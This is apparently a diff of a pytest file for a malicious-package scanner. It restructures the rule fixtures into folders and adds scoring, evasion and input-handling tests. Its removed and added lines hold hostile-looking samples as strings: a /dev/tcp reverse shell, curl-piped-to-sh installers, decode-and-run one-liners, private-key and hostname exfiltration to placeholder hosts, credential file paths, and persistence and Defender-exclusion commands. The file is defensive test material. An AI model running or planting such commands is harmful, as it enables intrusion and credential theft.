@@ -1,17 +1,18 @@
-"""The detection rules: one harmless fixture per rule, benign look-alikes that must stay clean,
-the rules version, and hostile content that must not break the scan.
+"""The detection rules: each rule's fixtures (`fixtures/rules/<id>/bad/` must fire at the
+marked line, `good/` look-alikes must not), scoring, the rules version, and hostile content
+that must not break the scan.
 
-Fixtures are strings that look malicious; they are written to tmp dirs, scanned as bytes and
-never executed. The scariest strings are assembled from pieces so this file itself does not
-read as a payload.
+Fixtures look malicious but are harmless (URLs under example.invalid, TEST-NET addresses);
+they are scanned as bytes and never executed.
 """
 
 from __future__ import annotations
 
 import base64
-import json
 import shutil
+import tomllib
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -61,438 +62,59 @@ PKG_INFO = (
 WEBHOOK = "https://discord.com/api/webhooks/" + "123456789012345678/" + "A" * 20 + "b" * 20
 REV = "bash -i >& " + "/dev/tcp/" + HOST + "/4444 0>&1"
 
-# rule id → (files, ecosystem, name, version). One harmless fixture per rule.
-FIXTURES: dict[str, tuple[dict[str, str | bytes], str, str, str]] = {
-    "PY-INSTALL-CMD-OVERRIDE": (
-        {
-            "demo-1.0/setup.py": SETUP_HEAD + "from setuptools.command.install import install\n"
-            "class Hook(install):\n    def run(self):\n        install.run(self)\n"
-            "setup(name='demo', cmdclass={'install': Hook})\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "PY-INSTALL-HOOK-EXEC": (
-        {
-            "demo-1.0/setup.py": SETUP_HEAD + "import os\n"
-            "from setuptools.command.install import install\n"
-            "class Hook(install):\n    def run(self):\n        os.system('echo hi')\n"
-            "setup(name='demo', cmdclass={'install': Hook})\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "PY-KEY-EXFIL": (
-        {
-            "demo-1.0/demo/wallet.py": "import requests\n\ndef sign(private_key):\n"
-            "    data = [private_key]\n"
-            "    requests.post('https://collector.example.invalid/k', data)\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "PY-INSTALL-PROCESS": (
-        {"demo-1.0/setup.py": SETUP_HEAD + "import subprocess\nsubprocess.call(['echo', 'hi'])\n"},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "PY-INSTALL-NETWORK": (
-        {
-            "demo-1.0/setup.py": SETUP_HEAD
-            + "import urllib.request\nurllib.request.urlopen('https://example.invalid/p')\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "PY-EXEC-DYNAMIC": (
-        {"demo-1.0/setup.py": SETUP_HEAD + "import sys\ncode = 'x = ' + sys.argv[0]\nexec(code)\n"},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "PY-EXEC-DECODED": (
-        {
-            "demo-1.0/demo/util.py": "import base64\n\ndef f():\n"
-            f"    exec(base64.b64decode('{_b64('print(1)')}'))\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "PY-MARSHAL-CODE": (
-        {
-            "demo-1.0/demo/__init__.py": "import marshal\nfrom . import blob\n"
-            "CODE = marshal.loads(blob.DATA)\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "PY-ENCODED-CODE": (
-        {
-            "demo-1.0/demo/util.py": "BLOB = '"
-            + _b64("import os\nos.system('echo hello from a fixture')\n")
-            + "'\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "PY-RECON-EXFIL": (
-        {
-            "demo-1.0/setup.py": SETUP_HEAD + "import socket, requests\n"
-            "requests.get('https://example.invalid', params={'h': socket.gethostname()})\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "PY-DOWNLOAD-EXEC": (
-        {
-            "demo-1.0/setup.py": SETUP_HEAD + "import os, urllib.request\n"
-            "urllib.request.urlretrieve('https://example.invalid/t', 't')\nos.system('t')\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "PY-BUILTINS-INDIRECTION": (
-        {"demo-1.0/demo/__init__.py": "CWD = __import__('os').getcwd()\n"},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "PY-HIDDEN-PADDING": (
-        {"demo-1.0/demo/__init__.py": "import os" + " " * 200 + ";exec('x = 1')\n"},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "PY-OBFUSCATED-NAMES": (
-        {"demo-1.0/demo/__init__.py": "".join(f"_0x{i:04x} = {i}\n" for i in range(0xA1, 0xA8))},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "PY-PTH-CODE": (
-        {"demo_hook.pth": "import sys; sys.flags\n", "demo/__init__.py": ""},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-EXFIL-WEBHOOK": (
-        {"demo-1.0/demo/report.py": f"HOOK = '{WEBHOOK}'\n"},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-EXFIL-OAST": (
-        {"demo-1.0/demo/report.py": "URL = 'https://abc123.oastify.com/x'\n"},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-CRED-BROWSER": (
-        {
-            "demo-1.0/demo/report.py": "P = 'Google\\\\Chrome\\\\User Data\\\\Local State'\n"
-            "K = state['os_crypt']['encrypted_key']\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-CRED-DISCORD-TOKEN": (
-        {"demo-1.0/demo/report.py": "P = 'discord\\\\Local Storage\\\\leveldb'\n"},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-CRED-WALLET": (
-        {"demo-1.0/demo/report.py": "W = ['Exodus\\\\exodus.wallet', 'Electrum\\\\wallets']\n"},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-CRED-FILES": (
-        {
-            "demo-1.0/demo/report.py": "F = ['~/.ssh/id_rsa', '~/.aws/credentials', "
-            "'~/.docker/config.json']\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-REVSHELL": (
-        {"demo-1.0/demo/tool.sh": REV + "\n"},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-MINER": (
-        {"demo-1.0/demo/conf.py": "POOL = 'stratum+" + "tcp://pool.example.invalid:3333'\n"},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-DOWNLOAD-EXEC": (
-        {"demo-1.0/demo/tool.sh": "curl -s https://example.invalid/i.sh | " + "sh\n"},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-DECODE-EXEC": (
-        {"demo-1.0/demo/tool.sh": "echo ZWNobyBoaQ== | base64 -d | " + "bash\n"},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-DROPPER": (
-        {
-            "demo-1.0/demo/tool.py": "import os, urllib.request\n\ndef f():\n"
-            "    urllib.request.urlretrieve('https://example.invalid/t.exe', 't.exe')\n"
-            "    os.startfile('t.exe')\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-PACKED-CODE": (
-        {
-            "demo-1.0/demo/__init__.py": "from .pytransform import pyarmor_runtime\n"
-            "pyarmor_runtime()\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-POWERSHELL-HIDDEN": (
-        {
-            "demo-1.0/demo/tool.py": "CMD = ['powershell.exe', '-WindowStyle', 'Hidden', "
-            "'-ExecutionPolicy', 'Bypass', '-File', 'x.ps1']\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-ENV-DUMP": (
-        {
-            "demo-1.0/demo/report.py": "import json, os\n\ndef f():\n"
-            "    return json.dumps(dict(os.environ))\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-PERSISTENCE": (
-        {"demo-1.0/demo/tool.bat": "schtasks /create /tn demo /tr demo.exe /sc onlogon\n"},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-DEFENSE-EVASION": (
-        {"demo-1.0/demo/tool.ps1": "Add-MpPreference " + "-ExclusionPath C:\\demo\n"},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-ANTI-ANALYSIS": (
-        {
-            "demo-1.0/demo/report.py": "NAMES = ['WDAGUtilityAccount', 'Abby', 'hmarc', "
-            "'patex', 'JOHN-PC']\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "CNT-RAW-IP-URL": (
-        {"demo-1.0/demo/report.py": f"URL = 'http://{HOST}:8080/x'\n"},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "NPM-INSTALL-SCRIPT": (
-        {
-            "package/package.json": json.dumps(
-                {
-                    "name": "demo-widget",
-                    "version": "1.0.0",
-                    "scripts": {"postinstall": "node setup.js"},
-                }
-            ),
-            "package/setup.js": "console.log('thanks');\n",
-        },
-        "npm",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "NPM-INSTALL-SCRIPT-SHELL": (
-        {
-            "package/package.json": json.dumps(
-                {
-                    "name": "demo-widget",
-                    "version": "1.0.0",
-                    "scripts": {"preinstall": "curl https://example.invalid/i.sh | " + "sh"},
-                }
-            )
-        },
-        "npm",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "JS-CHILD-PROCESS": (
-        {
-            "package/package.json": json.dumps(
-                {"name": "demo-widget", "version": "1.0.0", "scripts": {"install": "node i.js"}}
-            ),
-            "package/i.js": "const cp = require('child_process');\ncp.exec('echo hi');\n",
-        },
-        "npm",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "JS-NETWORK": (
-        {
-            "package/package.json": json.dumps(
-                {"name": "demo-widget", "version": "1.0.0", "scripts": {"install": "node i.js"}}
-            ),
-            "package/i.js": "const https = require('https');\n"
-            "https.get('https://example.invalid/ping');\n",
-        },
-        "npm",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "JS-EVAL-DECODED": (
-        {
-            "package/package.json": json.dumps({"name": "demo-widget", "version": "1.0.0"}),
-            "package/lib/x.js": "function f() {\n  eval(Buffer.from('"
-            + _b64("console.log(1)")
-            + "', 'base64').toString());\n}\n",
-        },
-        "npm",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "JS-EVAL-DYNAMIC": (
-        {
-            "package/package.json": json.dumps({"name": "demo-widget", "version": "1.0.0"}),
-            "package/index.js": "const code = process.argv[2];\neval(code);\n",
-        },
-        "npm",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "JS-ENV-EXFIL": (
-        {
-            "package/package.json": json.dumps(
-                {"name": "demo-widget", "version": "1.0.0", "scripts": {"install": "node i.js"}}
-            ),
-            "package/i.js": "const https = require('https');\nconst os = require('os');\n"
-            "const body = os.hostname() + Object.keys(process.env).join();\n"
-            "https.request({host: 'example.invalid'}).end(body);\n",
-        },
-        "npm",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "JS-ENCODED-CODE": (
-        {
-            "package/package.json": json.dumps({"name": "demo-widget", "version": "1.0.0"}),
-            "package/lib/x.js": "const blob = '"
-            + _b64("require('child_process').exec('echo fixture');")
-            + "';\n",
-        },
-        "npm",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "JS-OBFUSCATED": (
-        {
-            "package/package.json": json.dumps({"name": "demo-widget", "version": "1.0.0"}),
-            "package/lib/x.js": "".join(f"var _0x{i:04x} = {i};\n" for i in range(0xA1, 0xAD)),
-        },
-        "npm",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "META-TYPOSQUAT": (
-        {"reqeusts-1.0/PKG-INFO": PKG_INFO},
-        "pypi",
-        "reqeusts",
-        "1.0.0",
-    ),
-    "META-DEPCONF-VERSION": (
-        {"demo-99.0.1/PKG-INFO": PKG_INFO},
-        "pypi",
-        "demo-widget",
-        "99.0.1",
-    ),
-    "META-PLACEHOLDER": (
-        {
-            "demo-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: demo-widget\nVersion: 1.0.0\n"
-            "Summary: UNKNOWN\nAuthor: UNKNOWN\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "META-DEP-CONFUSABLE": (
-        {
-            "demo-1.0/setup.py": SETUP_HEAD
-            + "setup(name='demo', install_requires=['r\u0435quests'])\n"
-        },
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "META-DEP-URL": (
-        {
-            "package/package.json": json.dumps(
-                {
-                    "name": "demo-widget",
-                    "version": "1.0.0",
-                    "dependencies": {"helper": "https://example.invalid/helper.tgz"},
-                }
-            )
-        },
-        "npm",
-        "demo-widget",
-        "1.0.0",
-    ),
-    "META-BINARY": (
-        {"demo-1.0/demo/tool.exe": b"MZ\x90\x00" + b"\x00" * 60},
-        "pypi",
-        "demo-widget",
-        "1.0.0",
-    ),
-}
+FIXTURES = Path(__file__).parent / "fixtures" / "rules"
 
 
-def test_every_rule_has_a_fixture_and_every_yara_rule_a_catalog_entry() -> None:
-    assert set(FIXTURES) == set(RULES)
+def _cases(kind: str) -> list[tuple[str, Path]]:
+    """(rule id, folder) for every `fixture.toml` under `<rule>/<kind>/`."""
+    return sorted(
+        (folder.name, toml.parent)
+        for folder in FIXTURES.iterdir()
+        for toml in (folder / kind).rglob("fixture.toml")
+    )
+
+
+def _scan_case(case: Path) -> tuple[list[Finding], dict[str, Any]]:
+    spec = tomllib.loads((case / "fixture.toml").read_text(encoding="utf-8"))
+    eco, name, version = spec["ecosystem"], spec["name"], spec["version"]
+    package = PackageRef(eco, name, version, f"pkg:{eco}/{name}@{version}")
+    findings = engine.scan_tree(case, ecosystem=eco, package=package, artifact_sha256=SHA)
+    return [f for f in findings if f.file != "fixture.toml"], spec
+
+
+def test_every_rule_has_fixtures_and_every_yara_rule_a_catalog_entry() -> None:
+    assert {rule for rule, _ in _cases("bad")} == set(RULES)
+    assert {p.name for p in FIXTURES.iterdir()} == set(RULES)  # no folder for an unknown id
     assert content.rule_ids() <= set(RULES)
+    for rule in RULES.values():
+        assert rule.title and rule.explanation and rule.category
+        assert all(v.severity != rule.severity for v in rule.variants.values())
 
 
-@pytest.mark.parametrize("rule_id", sorted(FIXTURES))
-def test_rule_fires_on_its_fixture(tmp_path: Path, rule_id: str) -> None:
-    files, ecosystem, name, version = FIXTURES[rule_id]
-    findings = _scan(tmp_path, files, ecosystem=ecosystem, name=name, version=version)
+@pytest.mark.parametrize(("rule_id", "case"), _cases("bad"), ids=lambda x: getattr(x, "name", x))
+def test_rule_fires_on_its_fixture_at_the_marked_line(rule_id: str, case: Path) -> None:
+    findings, spec = _scan_case(case)
     hits = [f for f in findings if f.rule == rule_id]
     assert hits, f"{rule_id} did not fire; got {[f.rule for f in findings]}"
+    expected = spec.get("expect")
+    assert expected, f"{case}: mark the expected finding ([[expect]] file and line)"
+    got = {(f.file, f.line) for f in hits}
+    for want in expected:
+        assert (want["file"], want.get("line")) in got, (want, got)
     hit = hits[0]
     rule = RULES[rule_id]
     assert (hit.title, hit.category) == (rule.title, rule.category)
+    assert hit.severity in {rule.severity, *(v.severity for v in rule.variants.values())}
     assert rule.explanation in hit.explanation
     assert hit.artifact == SHA
     assert len(hit.snippet) <= SNIPPET_MAX and hit.snippet.isprintable()
-    if hit.file:  # metadata about the name/version has no file
-        assert hit.file in files
-        assert hit.line is None or hit.line >= 1
+
+
+@pytest.mark.parametrize(("rule_id", "case"), _cases("good"), ids=lambda x: getattr(x, "name", x))
+def test_rule_stays_quiet_on_its_look_alikes(rule_id: str, case: Path) -> None:
+    findings, spec = _scan_case(case)
+    assert rule_id not in {f.rule for f in findings}, [f.as_dict() for f in findings]
+    assert scoring.verdict(findings)[0] == spec.get("verdict", "clean")
 
 
 def test_findings_point_at_file_and_line_with_reachability(tmp_path: Path) -> None:
@@ -520,101 +142,43 @@ def test_decoded_payload_findings_point_at_the_literal(tmp_path: Path) -> None:
     assert scoring.verdict(findings)[0] == "malicious"
 
 
-# ---- benign look-alikes: each must stay clean and not trip the named rules ----
-BENIGN: dict[str, tuple[dict[str, str | bytes], str, set[str]]] = {
-    "setup.py reading its version and asking git": (
-        {
-            "demo-1.0/setup.py": SETUP_HEAD + "import subprocess\n"
-            "exec(open('demo/version.py').read())\n"
-            "try:\n    rev = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"
-            "except Exception:\n    rev = b''\n"
-            "setup(name='demo-widget', version=__version__)\n",
-            "demo-1.0/demo/version.py": "__version__ = '1.0.0'\n",
-            "demo-1.0/PKG-INFO": PKG_INFO,
-        },
-        "pypi",
-        {"PY-EXEC-DYNAMIC", "PY-DOWNLOAD-EXEC", "PY-EXEC-DECODED"},
-    ),
-    "an HTTP client library using network and processes inside functions": (
-        {
-            "demo-1.0/demo/client.py": "import base64, subprocess, requests, socket\n"
-            "def fetch(url):\n    return requests.get(url, timeout=5).json()\n"
-            "def host():\n    return socket.gethostname()\n"
-            "def run(cmd):\n    return subprocess.run(cmd, check=True)\n"
-            "def unpack(blob):\n    return base64.b64decode(blob)\n",
-            "demo-1.0/demo/__init__.py": "from .client import fetch\n"
-            "__import__('pkg_resources').declare_namespace(__name__)\n",
-            "demo-1.0/PKG-INFO": PKG_INFO,
-        },
-        "pypi",
-        {"PY-INSTALL-NETWORK", "PY-INSTALL-PROCESS", "PY-RECON-EXFIL", "PY-BUILTINS-INDIRECTION"},
-    ),
-    "docs describing a webhook URL template and one cloud credentials path": (
-        {
-            "demo-1.0/docs/usage.md": "Post to https://discord.com/api/webhooks/{id}/{token}\n",
-            "demo-1.0/demo/config.py": "CREDS = '~/.aws/credentials'\n",
-            "demo-1.0/demo/data.py": "PNG = '"
-            + base64.b64encode(bytes(range(256))).decode()
-            + "'\n",
-            "demo-1.0/PKG-INFO": PKG_INFO,
-        },
-        "pypi",
-        {"CNT-EXFIL-WEBHOOK", "CNT-CRED-FILES", "PY-ENCODED-CODE"},
-    ),
-    "a calendar-versioned popular package": (
-        {"certifi-2024.8.30/PKG-INFO": PKG_INFO.replace("demo-widget", "certifi")},
-        "pypi",
-        {"META-DEPCONF-VERSION", "META-TYPOSQUAT"},
-    ),
-    "an npm library with build scripts and fetch inside functions": (
-        {
-            "package/package.json": json.dumps(
-                {
-                    "name": "left-pad",
-                    "version": "1.3.0",
-                    "description": "pad strings",
-                    "repository": "github:example/left-pad",
-                    "main": "index.js",
-                    "scripts": {"test": "node test.js", "prepare": "tsc"},
-                }
-            ),
-            "package/index.js": "const https = require('https');\n"
-            "module.exports = function get(u) { return https.get(u); };\n",
-            "package/dist/bundle.min.js": "!function(){function a(u){return fetch(u)}"
-            "window.a=a}();\n",
-        },
-        "npm",
-        {"NPM-INSTALL-SCRIPT", "JS-NETWORK", "JS-EVAL-DYNAMIC"},
-    ),
-}
-
-
-@pytest.mark.parametrize("case", sorted(BENIGN))
-def test_benign_look_alikes_stay_clean(tmp_path: Path, case: str) -> None:
-    files, ecosystem, forbidden = BENIGN[case]
-    name = "certifi" if "certifi" in case else ("left-pad" if ecosystem == "npm" else "demo-widget")
-    version = "2024.8.30" if "certifi" in case else "1.0.0"
-    findings = _scan(tmp_path, files, ecosystem=ecosystem, name=name, version=version)
-    assert not {f.rule for f in findings} & forbidden, [f.as_dict() for f in findings]
-    assert scoring.verdict(findings)[0] == "clean"
-
-
 # ---- scoring ----
 def _finding(rule: str, severity: str, reach: str) -> Finding:
     return Finding(rule, "t", "c", severity, "f", 1, "s", reach, "e")  # type: ignore[arg-type]
 
 
 def test_verdict_mapping() -> None:
+    strong = "PY-EXEC-DECODED"  # declared strong: evidence of intent on its own
+    assert RULES[strong].strong and not RULES["PY-INSTALL-NETWORK"].strong
     assert scoring.verdict([]) == ("clean", 0.0)
-    assert scoring.verdict([_finding("A", "critical", "install")]) == ("malicious", 9.0)
-    assert scoring.verdict([_finding("A", "high", "import")]) == ("suspicious", 6.0)
-    assert scoring.verdict([_finding("A", "high", "runtime")]) == ("clean", 3.6)
-    assert scoring.verdict([_finding("A", "critical", "test")]) == ("suspicious", 4.5)
-    two_highs = [_finding("A", "high", "install"), _finding("B", "high", "install")]
-    assert scoring.verdict(two_highs) == ("malicious", 8.4)
+    assert scoring.verdict([_finding(strong, "critical", "install")]) == ("malicious", 9.0)
+    assert scoring.verdict([_finding("PY-INSTALL-NETWORK", "high", "import")]) == (
+        "suspicious",
+        6.0,
+    )
+    assert scoring.verdict([_finding("PY-INSTALL-NETWORK", "high", "runtime")]) == ("clean", 3.6)
+    assert scoring.verdict([_finding(strong, "critical", "test")]) == ("suspicious", 4.5)
     # the same rule repeated counts once
-    same = [_finding("A", "medium", "install")] * 10
+    same = [_finding("PY-INSTALL-PROCESS", "medium", "install")] * 10
     assert scoring.verdict(same) == ("clean", 3.0)
+
+
+def test_weak_findings_never_add_up_to_malicious() -> None:
+    two_highs = [
+        _finding("PY-INSTALL-NETWORK", "high", "install"),
+        _finding("CNT-PERSISTENCE", "high", "install"),
+    ]
+    assert scoring.verdict(two_highs) == ("suspicious", 6.9)  # 8.4 uncapped: no intent shown
+    with_intent = [*two_highs, _finding("PY-RECON-EXFIL", "critical", "install")]
+    assert scoring.verdict(with_intent)[0] == "malicious"
+    # a strong rule in code nothing runs at install or import is not intent
+    runtime = [*two_highs, _finding("PY-RECON-EXFIL", "critical", "runtime")]
+    assert scoring.verdict(runtime) == ("suspicious", 6.9)
+    # lows from many rules count as one signal
+    lows = [_finding(f"RULE-{i}", "low", "install") for i in range(8)]
+    assert scoring.verdict(lows) == ("clean", 1.0)
+    medium_and_lows = [_finding("PY-INSTALL-PROCESS", "medium", "install"), *lows]
+    assert scoring.verdict(medium_and_lows) == ("clean", 3.7)
 
 
 # ---- rules version ----
@@ -623,8 +187,8 @@ def test_rules_version_is_a_hash_of_the_rules_and_changes_with_them(tmp_path: Pa
     copy = tmp_path / "analysis"
     shutil.copytree(here, copy, ignore=shutil.ignore_patterns("__pycache__"))
     assert engine._rules_version(copy) == engine.RULES_VERSION
-    yar = copy / "rules" / "content.yar"
-    yar.write_text(yar.read_text() + "\n// a comment is a change too\n")
+    module = copy / "rules" / "cnt_shell.py"
+    module.write_text(module.read_text() + "\n# a comment is a change too\n")
     changed = engine._rules_version(copy)
     assert changed != engine.RULES_VERSION and len(changed) == 16
 
@@ -705,3 +269,62 @@ def test_check_cancels_between_files(tmp_path: Path) -> None:
             check=check,
         )
     assert len(calls) == 3
+
+
+# ---- inputs as an installer reads them ----
+def test_skipped_files_are_listed_with_their_reason(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from package_analysis.analysis import inputs
+
+    monkeypatch.setattr(inputs, "MAX_WHOLE_BYTES", 4096)
+    monkeypatch.setattr(inputs, "PART_BYTES", 1024)
+    tail = "import os\nos.system('curl -s http://" + HOST + "/x | sh')\n"
+    files = {
+        "demo-1.0/setup.py": SETUP_HEAD + "#" * 8000 + "\n" + tail,
+        "demo-1.0/demo/old.py": "import subprocess\nprint 'python 2'\n",
+    }
+    root = _tree(tmp_path, files)
+    skipped: list[dict[str, str]] = []
+    package = PackageRef("pypi", "demo-widget", "1.0.0", "")
+    findings = engine.scan_tree(
+        root, ecosystem="pypi", package=package, artifact_sha256=SHA, skipped=skipped
+    )
+    reasons = {s["file"]: s["reason"] for s in skipped}
+    assert reasons["demo-1.0/setup.py"].startswith("partly scanned")
+    assert reasons["demo-1.0/demo/old.py"].startswith(
+        "Python that does not parse (SyntaxError on line 2)"
+    )
+    # the payload after the padding is in the tail: still seen
+    assert any(f.rule == "PY-INSTALL-PROCESS" and f.file == "demo-1.0/setup.py" for f in findings)
+
+
+def test_nul_bytes_boms_cookies_and_fullwidth_names_do_not_hide_code(tmp_path: Path) -> None:
+    files: dict[str, str | bytes] = {
+        "demo-1.0/demo/__init__.py": b"# \x00\nimport os\nos.system('echo hi')\n",
+        "demo-1.0/demo/wide.py": "import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('"
+        + _b64("print(1)")
+        + "'))\n",
+        "demo-1.0/demo_hook.pth": b"import os\x00;os.system('echo hi')\n",
+        "demo-1.0/demo/cookie.py": "# -*- coding: utf-7 -*-\nX = 1\n",
+    }
+    findings = _scan(tmp_path, files)
+    got = {(f.rule, f.file) for f in findings}
+    assert ("PY-INSTALL-PROCESS", "demo-1.0/demo/__init__.py") in got
+    assert ("PY-EXEC-DECODED", "demo-1.0/demo/wide.py") in got
+    assert ("PY-PTH-CODE", "demo-1.0/demo_hook.pth") in got
+    assert ("PY-UNUSUAL-CODEC", "demo-1.0/demo/cookie.py") in got
+    npm = {
+        "package/package.json": "\ufeff" + '{"name": "demo-widget", "version": "1.0.0", '
+        '"scripts": {"postinstall": "curl https://example.invalid/i.sh | sh"}}',
+    }
+    findings = _scan(tmp_path / "npm", npm, ecosystem="npm")
+    assert {"NPM-INSTALL-SCRIPT", "NPM-INSTALL-SCRIPT-SHELL"} <= {f.rule for f in findings}
+
+
+def test_rule_reference_is_generated_from_the_catalogue() -> None:
+    from package_analysis.analysis.rules import reference
+
+    assert reference.DOC.read_text(encoding="utf-8") == reference.markdown(), "run make rules-doc"
+    for rule_id in RULES:
+        assert f"### {rule_id}\n" in reference.markdown()
